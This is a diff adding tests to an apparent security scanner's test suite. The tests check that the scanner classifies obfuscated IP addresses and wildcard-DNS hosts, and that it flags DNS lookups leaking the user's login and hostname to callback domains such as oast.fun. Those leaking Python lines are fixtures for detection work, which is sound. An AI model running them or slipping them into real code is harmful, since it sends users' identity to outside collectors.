@@ -379,3 +379,28 @@ test('an autostart place or a credential file named only by the path os.path.joi
   assert.equal(ruleOf(plain, 'persistence'), undefined);
   assert.equal(ruleOf(plain, 'sensitive-file-access'), undefined);
 });
+
+test('an IPv4 address spelt as one number, in hex or octal, or under a wildcard-DNS name is still a raw IP', () => {
+  const kindOf = (url: string) =>
+    findings(`import requests\ndef get():\n    return requests.get("${url}")\n`).find(
+      (f) => f.rule === 'egress-network-call',
+    )?.destination?.kind;
+  for (const url of ['http://3221225985/x', 'http://0xC0000201/x', 'http://0300.0.02.01/x'])
+    assert.equal(kindOf(url), 'ip-literal', url);
+  assert.equal(kindOf('http://192.0.2.1.nip.io/x'), 'tunnel-or-oast');
+  // 127.0.0.1 as one number is still the loopback: no outbound call
+  assert.equal(kindOf('http://2130706433/x'), undefined);
+  assert.equal(kindOf('http://api.example.com/x'), undefined);
+});
+
+test("the user's identity as a DNS label is a callback even when called; under a collector's domain it is high", () => {
+  const sent = (call: string) =>
+    findings(`import socket, os, getpass, dns.resolver\ndef probe():\n    ${call}\n`).find(
+      (f) => f.rule === 'exfiltration',
+    );
+  const label = sent('dns.resolver.resolve(getpass.getuser() + ".c.example.net", "A")');
+  assert.equal(label?.severity, 'medium');
+  const collector = sent('socket.getaddrinfo("%s.%s.oast.fun" % (os.getlogin(), socket.gethostname()), 80)');
+  assert.equal(collector?.destination?.kind, 'tunnel-or-oast');
+  assert.equal(collector?.severity, 'high');
+});
